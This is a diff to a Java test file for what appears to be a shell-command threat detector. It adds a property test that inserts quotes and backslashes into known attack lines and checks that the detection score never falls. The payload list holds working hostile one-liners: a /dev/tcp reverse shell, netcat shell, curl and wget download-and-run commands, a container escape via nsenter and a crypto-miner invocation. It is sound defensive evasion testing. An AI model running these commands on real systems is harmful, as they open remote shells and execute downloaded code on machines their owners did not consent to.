@@ -9,6 +9,11 @@ import dev.cronsentinel.model.ScoredEvent;
 import dev.cronsentinel.model.Signal;
 import java.util.List;
 import java.util.Map;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import net.jqwik.api.Provide;
 import org.junit.jupiter.api.Test;
 
 /**
@@ -100,5 +105,49 @@ class ShellEvasionTest {
             ScoredEvent s = run(script);
             assertThat(s.alertable()).as(script + " " + rules(s)).isFalse();
         }
+    }
+
+    /** Payloads without quotes, backslashes or {@code $}, so that quote removal gives back exactly the payload. */
+    private static final List<String> PLAIN_PAYLOADS = List.of(
+            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "curl -fsSL http://203.0.113.9/x | sh", "nc -e /bin/sh 198.51.100.7 4444",
+            "wget -qO f http://203.0.113.9/s; sh f", "echo cGF5bG9hZA | base64 -di | gunzip | bash", "nsenter -t 1 -m -u -i -n sh",
+            "python3 -c import pty;pty.spawn(/bin/sh)", "xmrig -o stratum+tcp://pool.example:3333");
+
+    @Property
+    void quotesAndBackslashesInsideWordsNeverLowerTheScore(@ForAll("payloadIndex") int payload, @ForAll("cuts") List<Integer> cuts,
+            @ForAll("quoteKinds") List<String> kinds) {
+        String line = PLAIN_PAYLOADS.get(payload);
+        StringBuilder mutated = new StringBuilder(line);
+        // Insert from the right at distinct positions, so earlier positions stay valid and no insert escapes another.
+        List<Integer> sorted = cuts.stream().map(c -> c % (line.length() + 1)).distinct().sorted(java.util.Comparator.reverseOrder()).toList();
+        for (int i = 0; i < sorted.size(); i++) {
+            int at = sorted.get(i);
+            String kind = kinds.get(i % kinds.size());
+            if (kind.equals("\\")) {
+                // A backslash before a character stands for the character; only before one that exists and is no newline.
+                if (at < line.length()) {
+                    mutated.insert(at, '\\');
+                }
+            } else {
+                mutated.insert(at, kind);
+            }
+        }
+        assertThat(ShellText.unquote(mutated.toString())).isEqualTo(line);
+        assertThat(run(mutated.toString()).score()).as(mutated.toString()).isGreaterThanOrEqualTo(run(line).score());
+    }
+
+    @Provide
+    Arbitrary<Integer> payloadIndex() {
+        return Arbitraries.integers().between(0, PLAIN_PAYLOADS.size() - 1);
+    }
+
+    @Provide
+    Arbitrary<List<Integer>> cuts() {
+        return Arbitraries.integers().between(0, 10_000).list().ofMinSize(1).ofMaxSize(6);
+    }
+
+    @Provide
+    Arbitrary<List<String>> quoteKinds() {
+        return Arbitraries.of("\"\"", "''", "\\").list().ofMinSize(1).ofMaxSize(6);
     }
 }
